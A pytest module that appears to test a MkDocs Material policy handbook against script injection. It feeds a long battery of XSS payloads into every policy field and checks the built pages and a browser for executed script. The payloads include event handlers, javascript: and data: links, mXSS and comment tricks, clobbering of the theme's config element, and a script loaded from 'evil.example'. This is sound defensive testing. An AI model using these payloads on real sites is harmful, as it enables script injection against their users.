"""Policy text cannot put live script into the pages readers open.

A battery of script-injection payloads goes into every policy field that reaches HTML,
for all three kinds; the fixture handbook is built once, strictly, the way `make site`
builds it. Then every page of the built site (the whole page, theme included) and the
search index are read with the standard library's HTML parser, and finally a real browser
opens the payload pages, hovers, focuses, clicks and searches, watching for any dialog.
"""

from __future__ import annotations

import contextlib
import html
import json
import os
import re
import subprocess
import sys
import time
from collections.abc import Iterator
from dataclasses import dataclass, field
from datetime import date
from html.parser import HTMLParser
from pathlib import Path
from typing import Any
from urllib.parse import urlparse

import material
import pytest
import yaml
from playwright.sync_api import Error as PlaywrightError
from playwright.sync_api import sync_playwright

from browsing import CHROMIUM, CHROMIUM_ARGS
from conftest import TODAY, build_site, mkdocs_yml, publish_proposals, serving, site_project

# --------------------------------------------------------------------------------------
# The battery
# --------------------------------------------------------------------------------------

MATERIAL = Path(material.__file__).parent
_WORKER = sorted((MATERIAL / "templates/assets/javascripts/workers").glob("search.*.min.js"))[0].name

#: If the page's own `#__config` were shadowed by an element from policy text, Material
#: would read this instead: its translations are put into search results with innerHTML.
_CLOBBER_CONFIG = json.dumps(
    {
        "base": "/",
        "features": ["search.suggest", "search.highlight"],
        "search": f"/assets/javascripts/workers/{_WORKER}",
        "translations": {
            f"search.result.{key}": "<img src=x onerror=alert(9)>"
            for key in ("placeholder", "none", "one", "other", "more.one", "more.other", "term.missing")
        },
    },
    separators=(",", ":"),
).replace("<", "&lt;").replace(">", "&gt;")  # entities, so that the JSON reaches the page as text

#: (id, Markdown). Each payload goes into a field after a marker of its own, and the markers
#: must all reach the page: so no payload swallowed the next one and hid it from the test.
PAYLOADS: list[tuple[str, str]] = [
    # script elements
    ("script", "<script>alert(1)</script>"),
    ("script-src", "<SCRIPT SRC=//evil.example/x.js></SCRIPT>"),
    ("script-split", "<scr<script>ipt>alert(1)</scr</script>ipt>"),
    ("script-nested", "<<script>script>alert(1)<</script>/script>"),
    ("script-in-code", "`<script>alert(1)</script>`"),
    ("script-entities", "&lt;script&gt;alert(1)&lt;/script&gt;"),
    ("script-double-entities", "&amp;lt;script&amp;gt;alert(1)&amp;lt;/script&amp;gt;"),
    # event handlers on many tags
    ("img-onerror", "<img src=x onerror=alert(1)>"),
    ("img-slash", "<img/src=x/onerror=alert(1)>"),
    ("img-quoted", '<img src="x" onerror="alert(1)">'),
    ("svg-onload", "<svg onload=alert(1)>"),
    ("svg-slash-onload", "<svg/onload=alert(1)></svg>"),
    ("body-onload", "<body onload=alert(1)></body>"),
    ("a-onmouseover", '<a href="#x" onmouseover="alert(1)">hover me</a>'),
    ("a-onclick-allowed-href", '<a href="https://example.org/" onclick="alert(1)">click me</a>'),
    ("details-ontoggle", "<details open ontoggle=alert(1)><summary>open</summary>inside</details>"),
    ("input-autofocus", "<input autofocus onfocus=alert(1)>"),
    ("p-onclick", '<p onclick="alert(1)" title="x">paragraph</p>'),
    ("span-tab", "<span\tonmouseover=alert(1)>tab-separated</span>"),
    ("span-newline", "<span\nonmouseover=alert(1)>newline-separated</span>"),
    ("div-style", '<div style="background:url(javascript:alert(1))" onpointerover=alert(1)>styled</div>'),
    ("video-onerror", "<video><source onerror=alert(1)></video>"),
    ("marquee", "<marquee onstart=alert(1)>m</marquee>"),
    # URLs in Markdown links and images
    ("md-js", "[md-js](javascript:alert(1))"),
    ("md-js-mixed", "[md-js-mixed](JaVaScRiPt:alert(1))"),
    ("md-js-dec", "[md-js-dec](&#106;avascript:alert(1))"),
    ("md-js-hex", "[md-js-hex](&#x6A;avascript:alert(1))"),
    ("md-js-tab-entity", "[md-js-tab-entity](jav&#x09;ascript:alert(1))"),
    ("md-js-tab-dec", "[md-js-tab-dec](jav&#9;ascript:alert(1))"),
    ("md-js-colon-entity", "[md-js-colon](javascript&colon;alert(1))"),
    ("md-js-colon-dec", "[md-js-colon-dec](javascript&#58;alert(1))"),
    ("md-js-space", "[md-js-space](   javascript:alert(1))"),
    ("md-js-newline", "[md-js-newline](\njavascript:alert(1))"),
    ("md-js-tab", "[md-js-tab](\tjavascript:alert(1))"),
    ("md-js-angle", "[md-js-angle](<javascript:alert(1)>)"),
    ("md-js-title", '[md-js-title](https://example.org/ "t\\" onmouseover=\\"alert(1)")'),
    ("md-js-title-single", "[md-js-title-single](https://example.org/ 'a\" onmouseover=\"alert(1)')"),
    ("md-vbscript", "[md-vbscript](vbscript:msgbox(1))"),
    ("md-data", "[md-data](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)"),
    ("md-data-upper", "[md-data-upper](DATA:text/html,%3Cscript%3Ealert(1)%3C/script%3E)"),
    ("md-percent", "[md-percent](%6Aavascript:alert(1))"),
    ("md-img-js", "![md-img-js](javascript:alert(1))"),
    ("md-img-data", "![md-img-data](data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+)"),
    ("md-img-title", '![md-img-title](x "a\\" onerror=\\"alert(1)")'),
    ("md-html-in-text", "[<img src=x onerror=alert(1)>](https://example.org/)"),
    ("md-nested", "[[md-nested](javascript:alert(1))](https://example.org/)"),
    ("md-ref", "[md-ref][evil]\n\n[evil]: javascript:alert(1)"),
    ("md-ref-entity", "[md-ref-entity][evil2]\n\n[evil2]: &#x6A;avascript:alert(1)"),
    ("md-ref-title", '[md-ref-title][evil3]\n\n[evil3]: https://example.org/ "a\\" onmouseover=\\"alert(1)"'),
    ("md-img-ref", "![md-img-ref][evil4]\n\n[evil4]: javascript:alert(1)"),
    ("autolink-js", "<javascript:alert(1)>"),
    ("autolink-js-upper", "<JAVASCRIPT:alert(1)>"),
    ("autolink-data", "<data:text/html,alert(1)>"),
    ("autolink-mail-quote", '<x" onmouseover="alert(1)@example.org>'),
    ("attr-list-on", 'attr-list paragraph\n{: onclick="alert(1)" }'),
    ("attr-list-href", '[attr-list-link](https://example.org/){: href="javascript:alert(1)" onmouseover="alert(1)" }'),
    # raw HTML links
    ("a-js", '<a href="javascript:alert(1)">a-js</a>'),
    ("a-js-dec", '<a href="&#106;avascript:alert(1)">a-js-dec</a>'),
    ("a-js-tab", '<a href="jav&#x09;ascript:alert(1)">a-js-tab</a>'),
    ("a-js-leading", '<a href=" &#14; javascript:alert(1)">a-js-leading</a>'),
    ("a-data", '<a href="data:text/html,&lt;script&gt;alert(1)&lt;/script&gt;">a-data</a>'),
    ("a-vbscript", "<a href=vbscript:msgbox(1)>a-vbscript</a>"),
    # elements that must never come from content
    ("iframe", '<iframe src="javascript:alert(1)"></iframe>'),
    ("iframe-srcdoc", '<iframe srcdoc="&lt;script&gt;alert(1)&lt;/script&gt;"></iframe>'),
    ("object", '<object data="javascript:alert(1)"></object>'),
    ("embed", '<embed src="javascript:alert(1)">'),
    ("style", '<style>body{background:url("javascript:alert(1)")}</style>'),
    ("link", '<link rel="stylesheet" href="javascript:alert(1)">'),
    ("meta-refresh", '<meta http-equiv="refresh" content="0;url=javascript:alert(1)">'),
    ("base", '<base href="javascript:alert(1)//">'),
    ("form", '<form action="javascript:alert(1)"><button>go</button></form>'),
    ("formaction", '<button formaction="javascript:alert(1)">go</button>'),
    ("math-href", '<math><mi xlink:href="javascript:alert(1)" href="javascript:alert(1)">m</mi></math>'),
    ("math-mxss", "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)></style></mglyph></table></mtext></math>"),
    ("svg-a", '<svg><a xlink:href="javascript:alert(1)"><text x="20" y="20">svg-a</text></a></svg>'),
    ("svg-script", "<svg><script>alert(1)</script></svg>"),
    ("svg-animate", "<svg><animate onbegin=alert(1) attributeName=x dur=1s></animate></svg>"),
    ("noscript-mxss", '<noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript>'),
    ("template", "<template><img src=x onerror=alert(1)></template>"),
    ("textarea-break", "<textarea></textarea><img src=x onerror=alert(1)>"),
    ("title-break", "<title></title><img src=x onerror=alert(1)>"),
    # comments that try to hide a closing tag
    ("comment-hides-close", "<script><!-- </script> -->alert(1)</script>"),
    ("comment-around-tags", "<!--<script>-->alert(1)<!--</script>-->"),
    ("comment-short", "<!--><img src=x onerror=alert(1)>-->"),
    ("comment-short-dash", "<!---><img src=x onerror=alert(1)>-->"),
    ("comment-in-attr", '<p title="<!--">x</p><img src=x onerror=alert(1)><p title="-->">y</p>'),
    ("comment-bang", "<!--!><img src=x onerror=alert(1)>-->"),
    # attribute-breaking quotes
    ("quote-double", '" onmouseover="alert(1)'),
    ("quote-single", "' onfocus='alert(1)' autofocus='"),
    ("quote-backtick", "` onmouseover=alert(1) `"),
    ("quote-in-title", '<span title="x" onmouseover="alert(1)">quoted</span>'),
    ("quote-in-title-single", "<span title='a' onmouseover='alert(1)'>single</span>"),
    ("quote-in-title-backtick", "<span title=`a` onmouseover=alert(1)>backtick</span>"),
    ("quote-entity", '<abbr title="&quot; onmouseover=&quot;alert(1)">entity</abbr>'),
    # headings: the theme draws headings into the table of contents, outside the article
    ("heading-entity", "#### &lt;img src=x onerror=alert(1)&gt;"),
    ("heading-html", "#### <img src=x onerror=alert(1)> heading-html"),
    ("heading-comment", "#### heading-comment <!--><img/src=x@ onerror=alert('toc')>-->"),
    ("heading-comment-lt", '#### heading-comment-lt <!--><img src="<" onerror=alert(\'toc\')>-->'),
    ("heading-toc-label", '#### heading-toc-label {: data-toc-label="<img src=x onerror=alert(1)>" }'),
    # the theme's own elements, shadowed by an id from content
    ("clobber-config", f'<span id="__config">{_CLOBBER_CONFIG}</span>'),
    ("clobber-search", '<span id="__search" class="md-toggle">clobber-search</span>'),
]

#: Plain-text payloads (titles, owners, phrases, measures, activities, reference titles and
#: authors): the schema refuses `<` and `>` there, so these are the tricks it lets through.
PLAIN: list[tuple[str, str]] = [
    ("dq", '" onmouseover="alert(1)'),
    ("sq", "' onfocus='alert(1)' autofocus='"),
    ("bt", "` onmouseover=alert(1) `"),
    ("js", "javascript:alert(1)"),
    ("js-mixed", "JaVaScRiPt:alert(1)"),
    ("ent-script", "&lt;script&gt;alert(1)&lt;/script&gt;"),
    ("ent-num", "&#60;img src=x onerror=alert(1)&#62;"),
    ("ent-double", "&amp;lt;svg onload=alert(1)&amp;gt;"),
    ("ent-quot", "&quot; onmouseover=&quot;alert(1)"),
    ("backslash-quote", '\\" onmouseover=\\"alert(1)'),
    ("md-link", "[x](javascript:alert(1)) ![y](data:text/html,z)"),
    ("attr-list", '{: onclick="alert(1)" #__config }'),
    ("pipe", "| x | onmouseover=alert(1) |"),
    ("template", "{{ config.site_name }} {% raw %} ${alert(1)}"),
    ("fullwidth", "＜script＞alert(1)＜/script＞"),
    ("comment-text", "--!-- ]] */ alert(1) // -- !"),
]

#: Reference links: the schema's pattern (http(s); no spaces, quotes, backticks, angle
#: brackets, parentheses, braces or square brackets) admits these; each tries to break out
#: of the Markdown link it lands in, or to smuggle markup through entities.
URLS: list[str] = [
    "https://example.org/?q=&quot;onmouseover=alert%281%29",
    "https://example.org/?q=&#34;onmouseover=alert%281%29",
    "https://example.org/#&lt;script&gt;alert%281%29&lt;/script&gt;",
    "http://javascript:alert%281%29@example.org/",
    "https://example.org/%22%20onmouseover=%22alert%281%29",
    "https://example.org/a;b!c*d$e,f~g:h@i=j&k+l",
]
#: Links the pattern refuses: Markdown after a link's ')' could add attributes or links.
BREAKOUT_URLS: list[str] = [
    "https://example.org/)[url-breakout](javascript:alert(1)",
    "https://example.org/){:onclick=alert(1)}",
    "https://example.org/){:#__config}",
    "https://example.org/){:href=javascript:alert(1)}",
    "http://javascript:alert(1)@example.org/",
]

#: A reference title can be JSON without `<` or `>` in it: with an id of `__config` on its
#: link it would replace the theme's settings. The schema now refuses the `{:#__config}`
#: after a link (BREAKOUT_URLS) and the sanitiser drops ids starting with '_'; the title
#: stays, to show that text alone does nothing. (Titles hold 200 characters.)
PLAIN_CONFIG_TITLE = json.dumps(
    {
        "base": "/",
        "features": [],
        "search": f"/assets/javascripts/workers/{_WORKER}",
        "translations": {"search.result.other": "", "search.result.more.other": "<img src onerror=alert(7)>"},
    },
    separators=(",", ":"),
).replace("<", "\\u003c").replace(">", "\\u003e")

#: Values the schema must refuse, with the field and the message that says why.
PLAIN_TEXT_MESSAGE = "Write it on one line, without spaces at the start or end and without < or >."
URL_MESSAGE = "Use a web address that starts with https:// or http://, without spaces, quotes or brackets (write them as %28, %29 and so on)."
CONTROL_MESSAGE = "this text contains a control character ('\\x01') written as an escape; remove it"
REFUSED: list[tuple[str, str, str]] = [
    ("title", "<script>alert(1)</script>", PLAIN_TEXT_MESSAGE),
    ("owner", "<img src=x onerror=alert(1)>", PLAIN_TEXT_MESSAGE),
    ("phrases.use[0].text", "</title><script>alert(1)</script>", PLAIN_TEXT_MESSAGE),
    ("phrases.avoid[0].text", "<svg onload=alert(1)>", PLAIN_TEXT_MESSAGE),
    ("phrases.avoid[0].instead", "a<b onmouseover=alert(1)", PLAIN_TEXT_MESSAGE),
    ("response_standards[0].measure", '"><script>alert(1)</script>', PLAIN_TEXT_MESSAGE),
    ("references[0].title", "<iframe src=javascript:alert(1)>", PLAIN_TEXT_MESSAGE),
    ("references[0].author", "x onmouseover=alert(1)>", PLAIN_TEXT_MESSAGE),
    ("references[0].url", 'https://example.org/" onmouseover="alert(1)', URL_MESSAGE),
    ("references[1].url", "https://example.org/'onmouseover='alert(1)'", URL_MESSAGE),
    ("references[2].url", "https://example.org/`onmouseover=alert(1)`", URL_MESSAGE),
    ("references[3].url", "javascript:alert(1)", URL_MESSAGE),
    ("references[4].url", "data:text/html,alert(1)", URL_MESSAGE),
    ("references[5].url", "https://example.org/><script>alert(1)</script>", URL_MESSAGE),
    *((f"references[{6 + i}].url", url, URL_MESSAGE) for i, url in enumerate(BREAKOUT_URLS)),
    ("rationale", "[md-js-control](\x01javascript:alert(1))", CONTROL_MESSAGE),
]

# --------------------------------------------------------------------------------------
# The payload handbook
# --------------------------------------------------------------------------------------

SUMMARY_MAX, MARKDOWN_MAX, ACTIVITY_MAX = 600, 5000, 80
#: The schema's limits: items in a list of texts (and references, phrases), statements, '[' in one text.
LIST_MAX, STATEMENTS_MAX, BRACKETS_MAX = 50, 100, 20


def _marked(code: str, most: int | None = None) -> list[str]:
    """Each payload preceded by its marker paragraph `pbm-CODE-NNN`, which must reach the page:
    a marker that is missing means a payload swallowed what followed it, untested. With
    `most`, consecutive payloads share an item so that the list stays within that many."""
    parts = [f"pbm-{code}-{i:03d}\n\n{payload}" for i, (_, payload) in enumerate(PAYLOADS)]
    if most is None or len(parts) <= most:
        return parts
    size = -(-len(parts) // most)
    texts = ["\n\n".join(parts[i : i + size]) for i in range(0, len(parts), size)]
    assert all(t.count("[") <= BRACKETS_MAX for t in texts)
    return texts


def _pack(parts: list[str], limit: int, joiner: str = "\n\n") -> list[str]:
    """Consecutive parts joined into as few texts as fit in `limit` (a part that can never fit
    alone is left out: only the config-shadowing payload, too long for a 600-character summary)."""
    texts: list[str] = []
    current: list[str] = []
    for part in parts:
        if len(part) > limit:
            continue
        if current and len(joiner.join([*current, part])) > limit:
            texts.append(joiner.join(current))
            current = []
        current.append(part)
    if current:
        texts.append(joiner.join(current))
    return texts


def _spread(parts: list[str], count: int, limit: int) -> list[str]:
    """`parts` dealt into `count` texts, none over `limit` characters or holding more '[' than a
    text may: a part with a '[' goes to the text with the fewest so far, any other to the shortest."""
    piles: list[list[str]] = [[] for _ in range(min(count, len(parts)))]
    for part in parts:
        if "[" in part:
            min(piles, key=lambda pile: sum(p.count("[") for p in pile)).append(part)
        else:
            min(piles, key=lambda pile: sum(map(len, pile))).append(part)
    texts = ["\n\n".join(pile) for pile in piles]
    assert all(len(t) <= limit and t.count("[") <= BRACKETS_MAX for t in texts), [(len(t), t.count("[")) for t in texts]
    return texts


#: Statuses and audiences of the payload policies: one active golden rule (a handbook has
#: one), deprecated and retired ones for the banners, drafts, proposals (published in the
#: "Proposals" area here, so their pages get the battery too), one coming soon.
POLICIES: list[tuple[str, str, list[str]]] = [
    ("GR-001", "active", ["everyone"]),
    ("GR-002", "deprecated", ["everyone"]),
    ("GR-003", "retired", ["everyone"]),
    ("SE-001", "active", ["frontline", "manager"]),
    ("SE-002", "active", ["everyone"]),
    ("SE-003", "deprecated", ["frontline"]),
    ("SE-004", "proposed", ["frontline"]),
    ("SE-005", "active", ["support-functions"]),  # effective in the future: "coming soon"
    ("SE-006", "draft", ["frontline"]),
    ("SE-007", "retired", ["frontline"]),
    ("LC-001", "active", ["manager", "executive"]),
    ("LC-002", "deprecated", ["manager", "executive"]),
    ("LC-003", "retired", ["executive"]),
    ("LC-004", "active", ["executive"]),
    ("LC-005", "draft", ["manager"]),
    ("LC-006", "active", ["manager"]),
    ("LC-007", "proposed", ["executive"]),
    ("LC-008", "active", ["manager", "executive"]),
]
KINDS = {"GR": "golden-rule", "SE": "service-expectation", "LC": "leader-commitment"}
#: The policy of each kind that carries the battery in every one of its fields.
FULL = {"GR-001", "SE-001", "LC-001"}


def _code(pid: str, name: str) -> str:
    return f"{pid.lower().replace('-', '')}-{name}"


def _payload_policies() -> dict[str, dict[str, Any]]:
    """Every policy as data. Lists get one payload per item; a single Markdown field too short
    for the whole battery has it spread over the kind's policies (the summary, 600 characters,
    over all policies); plain-text fields take the plain payloads in turn."""
    policies: dict[str, dict[str, Any]] = {}
    summaries = _pack(_marked("sum"), SUMMARY_MAX)
    assert len(summaries) <= len(POLICIES)
    for n, (pid, status, audience) in enumerate(POLICIES):
        policies[pid] = {
            "id": pid,
            "kind": KINDS[pid[:2]],
            "title": PLAIN[n % len(PLAIN)][1],
            "version": "0.1.0" if status in ("draft", "proposed") else "1.0.0",
            "status": status,
            "owner": PLAIN[(n + 1) % len(PLAIN)][1],
            "effective": "2027-01-10" if pid == "SE-005" else "2026-03-01",
            "review_by": "2027-09-01",
            "audience": audience,
            "summary": summaries[n] if n < len(summaries) else f"pbm-{_code(pid, 'sum')} plain summary",
        }
    for prefix in KINDS:
        family = [p for p in policies.values() if p["id"].startswith(prefix)]
        for policy, text in zip(family, _spread(_marked(f"{prefix.lower()}-rat"), len(family), MARKDOWN_MAX), strict=False):
            policy["rationale"] = text
        ended = [p for p in family if p["status"] in ("deprecated", "retired")]
        for policy, text in zip(ended, _spread(_marked(f"{prefix.lower()}-nrr"), len(ended), MARKDOWN_MAX), strict=False):
            policy["no_replacement_reason"] = text  # the deprecated / retired banner
        for policy in family:
            pid, full = policy["id"], policy["id"] in FULL
            policy.setdefault("rationale", f"pbm-{_code(pid, 'rat')} plain rationale")
            texts = _marked(_code(pid, "st"), STATEMENTS_MAX) if full else [f"pbm-{_code(pid, 'st')} one statement"]
            policy["statements"] = [{"id": f"S{i + 1}", "level": ("must", "should", "may")[i % 3], "text": t} for i, t in enumerate(texts)]
            _changelog(policy, full)
            if full:
                _references(policy)
    policies["SE-002"]["references"] = [{"title": PLAIN_CONFIG_TITLE, "url": "https://example.org/config"}]
    _golden_rules([p for p in policies.values() if p["kind"] == "golden-rule"])
    _service_expectations([p for p in policies.values() if p["kind"] == "service-expectation"])
    _leader_commitments([p for p in policies.values() if p["kind"] == "leader-commitment"])
    return policies


def _changelog(policy: dict[str, Any], full: bool) -> None:
    """One entry per payload, newest first, the newest one the policy's version."""
    if not full:
        policy["changelog"] = [{"version": policy["version"], "date": "2026-03-01", "summary": f"pbm-{_code(policy['id'], 'chg')} first version"}]
        return
    texts = _marked(_code(policy["id"], "chg"))
    count = len(texts)
    policy["version"] = f"1.{count - 1}.0"
    first = date(2026, 3, 1).toordinal()
    policy["changelog"] = [
        {"version": f"1.{count - 1 - i}.0", "date": date.fromordinal(first - i).isoformat(), "summary": text} for i, text in enumerate(texts)
    ]


def _references(policy: dict[str, Any]) -> None:
    """One source per payload (its note); titles, authors and links take the plain payloads and URLS in turn."""
    policy["references"] = [
        {"title": PLAIN[i % len(PLAIN)][1], "author": PLAIN[(i + 3) % len(PLAIN)][1], "url": URLS[i % len(URLS)], "note": note}
        for i, note in enumerate(_marked(_code(policy["id"], "note"), LIST_MAX))
    ]


def _golden_rules(family: list[dict[str, Any]]) -> None:
    for policy in family:
        pid, full = policy["id"], policy["id"] in FULL
        items = {name: _marked(_code(pid, name), LIST_MAX) if full else [f"pbm-{_code(pid, name)} plain"] for name in ("do", "dont", "lead")}
        policy["behaviours"] = {"do": items["do"], "dont": items["dont"]}
        policy["leaders_model_it"] = items["lead"]


def _service_expectations(family: list[dict[str, Any]]) -> None:
    channels = ["in-person", "phone", "email", "chat", "social-media", "letter", "internal-request"]
    for policy in family:
        pid = policy["id"]
        if pid not in FULL:
            policy["situations"] = [f"pbm-{_code(pid, 'sit')} plain"]
            policy["addressing_customers"] = [f"pbm-{_code(pid, 'addr')} plain"]
            continue
        policy["situations"] = _marked(_code(pid, "sit"), LIST_MAX)
        plain = [text for _, text in PLAIN]
        policy["phrases"] = {
            "use": [{"text": f"{plain[i % len(plain)]} {i}", "why": why} for i, why in enumerate(_marked(_code(pid, "uwhy"), LIST_MAX))],
            "avoid": [
                {"text": f"{plain[i % len(plain)]} avoid {i}", "why": why, "instead": plain[(i + 5) % len(plain)]}
                for i, why in enumerate(_marked(_code(pid, "awhy"), LIST_MAX))
            ],
        }
        policy["addressing_customers"] = _marked(_code(pid, "addr"), LIST_MAX)
        policy["answering_questions"] = _marked(_code(pid, "ans"), LIST_MAX)
        policy["response_standards"] = [
            {"channel": channels[i % len(channels)], "measure": text, "target": {"value": i + 1, "unit": "minutes"}, **({"share": 90} if i % 2 else {})}
            for i, text in enumerate(plain)
        ]


def _leader_commitments(family: list[dict[str, Any]]) -> None:
    activities = _pack([text for _, text in PLAIN], ACTIVITY_MAX, " · ")
    measured = _spread(_marked("lc-mby"), len(family), MARKDOWN_MAX)
    assert len(activities) <= len(family)
    for n, policy in enumerate(family):
        pid = policy["id"]
        policy["roles"] = [r for r in policy["audience"] if r in ("manager", "executive")]
        policy["target"] = {"activity": activities[n % len(activities)], "count": n + 1, "unit": "visits", "per": "quarter"}
        policy["measured_by"] = measured[n] if n < len(measured) else f"pbm-{_code(pid, 'mby')} plain"
        policy["evidence"] = _marked(_code(pid, "ev"), LIST_MAX) if pid in FULL else [f"pbm-{_code(pid, 'ev')} plain"]


class _Dumper(yaml.SafeDumper):
    def ignore_aliases(self, data: Any) -> bool:
        return True


def _text(dumper: yaml.SafeDumper, value: str) -> yaml.ScalarNode:
    return dumper.represent_scalar("tag:yaml.org,2002:str", value, style="|" if "\n" in value else None)


_Dumper.add_representer(str, _text)


def policy_yaml(data: dict[str, Any]) -> str:
    """A policy file as an editor would save it: the schema line, then the fields."""
    text = yaml.dump(data, Dumper=_Dumper, sort_keys=False, allow_unicode=True, width=10_000)
    assert yaml.safe_load(text) == data, "the YAML must read back exactly as written"
    return f"# yaml-language-server: $schema=../schemas/{data['kind']}.schema.json\n{text}"


def write_policies(root: Path, policies: dict[str, dict[str, Any]]) -> None:
    for pid, data in policies.items():
        (root / "policies" / f"{pid}-payloads.yaml").write_text(policy_yaml(data), encoding="utf-8")


ENV = {**os.environ, "POLICYBOOK_TODAY": TODAY, "NO_MKDOCS_2_WARNING": "1"}


def _policybook(*args: str, cwd: Path) -> subprocess.CompletedProcess[str]:
    command = [str(Path(sys.executable).with_name("policybook")), *args]
    return subprocess.run(command, cwd=cwd, capture_output=True, text=True, env=ENV, check=False)


@dataclass
class PayloadSite:
    root: Path
    site: Path
    policies: dict[str, dict[str, Any]]
    validate: subprocess.CompletedProcess[str]
    build: subprocess.CompletedProcess[str]


@pytest.fixture(scope="module")
def payload_site(tmp_path_factory: pytest.TempPathFactory) -> PayloadSite:
    """The payload handbook, checked and built strictly once for every test in this file."""
    base = tmp_path_factory.mktemp("injection")
    root = site_project(base / "project", None)
    publish_proposals(root)
    policies = _payload_policies()
    write_policies(root, policies)
    validate = _policybook("validate", "--strict", "--format", "json", cwd=root)
    build = build_site(root, base / "site") if validate.returncode == 0 else validate
    return PayloadSite(root, base / "site", policies, validate, build)


def test_the_payload_policies_pass_validation_and_the_strict_build(payload_site: PayloadSite) -> None:
    assert payload_site.validate.returncode == 0, payload_site.validate.stdout + payload_site.validate.stderr
    assert json.loads(payload_site.validate.stdout) == []
    assert payload_site.build.returncode == 0, payload_site.build.stderr


def test_the_schema_refuses_markup_in_plain_text_fields_and_unsafe_links(tmp_path: Path) -> None:
    """What the schema rightly refuses never reaches a page: each refusal, with its message."""
    root = site_project(tmp_path / "project", None)
    policy = _payload_policies()["SE-001"]
    for path, value, _ in REFUSED:
        target: Any = policy
        *parents, last = re.findall(r"[^.\[\]]+", path)
        for part in parents:
            target = target[int(part)] if part.isdigit() else target[part]
        target[int(last) if last.isdigit() else last] = value
    write_policies(root, {"SE-001": policy})
    result = _policybook("validate", "--format", "json", cwd=root)
    assert result.returncode == 1, result.stdout
    problems = {(p["json_path"], p["message"]) for p in json.loads(result.stdout)}
    for path, value, message in REFUSED:
        found = [m for p, m in problems if p.replace("$.", "") == path]
        assert found, f"{path} = {value!r} was not refused; problems: {sorted(problems)}"
        assert any(message in m for m in found), (path, found)


# --------------------------------------------------------------------------------------
# Reading the built pages
# --------------------------------------------------------------------------------------

_VOID = {"area", "base", "br", "col", "embed", "hr", "img", "input", "link", "meta", "param", "source", "track", "wbr"}


@dataclass
class Tag:
    """One start tag as the page has it: attributes HTML-unescaped (as a browser reads them)."""

    name: str
    attrs: list[tuple[str, str]]
    raw: str
    line: int
    in_head: bool
    in_body: bool
    in_article: bool
    #: the open elements around it, each as `tag.class.class`
    ancestors: tuple[str, ...]
    text: str = ""

    def get(self, name: str) -> str | None:
        return next((v for k, v in self.attrs if k == name), None)

    @property
    def classes(self) -> set[str]:
        return set((self.get("class") or "").split())


class _Scanner(HTMLParser):
    """Every start tag of a page in order, knowing whether it is inside the article."""

    def __init__(self) -> None:
        super().__init__(convert_charrefs=True)
        self.tags: list[Tag] = []
        self.open: list[Tag] = []
        self.text: list[str] = []

    def _add(self, name: str, attrs: list[tuple[str, str | None]], *, void: bool) -> None:
        names = [t.name for t in self.open]
        ancestors = tuple(".".join([t.name, *sorted(t.classes)]) for t in self.open)
        in_article = any(t.name == "article" and "md-content__inner" in t.classes for t in self.open)
        raw = self.get_starttag_text() or ""
        tag = Tag(name, [(k, v or "") for k, v in attrs], raw, self.getpos()[0], "head" in names, "body" in names, in_article, ancestors)
        self.tags.append(tag)
        if not void:
            self.open.append(tag)

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self._add(tag, attrs, void=tag in _VOID)

    def handle_startendtag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self._add(tag, attrs, void=True)

    def handle_endtag(self, tag: str) -> None:
        for i in range(len(self.open) - 1, -1, -1):
            if self.open[i].name == tag:
                del self.open[i:]
                break

    def handle_data(self, data: str) -> None:
        if self.open and self.open[-1].name in ("script", "style", "title"):
            self.open[-1].text += data
        else:
            self.text.append(data)


@dataclass
class Page:
    path: str
    source: str
    tags: list[Tag]
    text: str


def read_page(site: Path, path: Path) -> Page:
    source = path.read_text(encoding="utf-8")
    scanner = _Scanner()
    scanner.feed(source)
    scanner.close()
    return Page(path.relative_to(site).as_posix(), source, scanner.tags, " ".join(scanner.text))


@pytest.fixture(scope="module")
def pages(payload_site: PayloadSite) -> list[Page]:
    assert payload_site.build.returncode == 0, payload_site.build.stderr
    found = [read_page(payload_site.site, p) for p in sorted(payload_site.site.rglob("*.html"))]
    assert len(found) >= len(POLICIES) + 10
    return found


def page_of(data: dict[str, Any]) -> str:
    """Where a payload policy's page is: drafts and proposals are in the Proposals area."""
    return f"proposals/{data['id']}/" if data["status"] in ("draft", "proposed") else f"policies/{data['id']}/"


def test_every_payload_reached_its_page_in_every_field(payload_site: PayloadSite, pages: list[Page]) -> None:
    """Each payload is preceded by a marker; all markers are on the page, so none was
    swallowed by another and the battery really ran in every field."""
    by_path = {p.path: p for p in pages}
    marker = re.compile(r"pbm-[a-z0-9]+(?:-[a-z0-9]+)*")
    missing = {}
    for pid, data in payload_site.policies.items():
        expected = set(marker.findall(json.dumps(data)))
        shown = set(marker.findall(by_path[page_of(data) + "index.html"].text))
        if expected - shown:
            missing[pid] = sorted(expected - shown)
    assert missing == {}
    covered: dict[str, set[int]] = {}
    for found in marker.findall(json.dumps(payload_site.policies)):
        if m := re.fullmatch(r"pbm-(.+)-(\d{3})", found):
            covered.setdefault(m.group(1), set()).add(int(m.group(2)))
    fields = {"sum", "gr-rat", "gr-nrr", "se-rat", "se-nrr", "lc-rat", "lc-nrr", "lc-mby"}
    fields |= {f"{pid}-{name}" for pid in ("gr001", "se001", "lc001") for name in ("st", "chg", "note")}
    fields |= {"gr001-do", "gr001-dont", "gr001-lead", "se001-sit", "se001-uwhy", "se001-awhy", "se001-addr", "se001-ans", "lc001-ev"}
    assert set(covered) == fields
    everything = set(range(len(PAYLOADS)))
    too_long_for_a_summary = {i for i, text in enumerate(_marked("sum")) if len(text) > SUMMARY_MAX}
    expected = {"sum": too_long_for_a_summary} if too_long_for_a_summary else {}
    assert {name: everything - seen for name, seen in covered.items() if everything - seen} == expected


def test_plain_text_fields_are_shown_literally(payload_site: PayloadSite, pages: list[Page]) -> None:
    """A title is text: the page's heading and the browser's title show it exactly as written."""
    by_path = {p.path: p for p in pages}
    for pid, data in payload_site.policies.items():
        page = by_path[page_of(data) + "index.html"]
        h1 = [t for t in page.tags if t.name == "h1" and t.in_article]
        assert len(h1) == 1
        start = page.source.index(h1[0].raw) + len(h1[0].raw)
        heading = html.unescape(re.sub(r"<[^>]+>", "", page.source[start : page.source.index("</h1>", start)])).rstrip("¶")
        proposal = "Proposal: " if page_of(data).startswith("proposals/") else ""
        assert heading == proposal + data["title"], pid
        title = [t for t in page.tags if t.name == "title"]
        assert len(title) == 1 and title[0].in_head
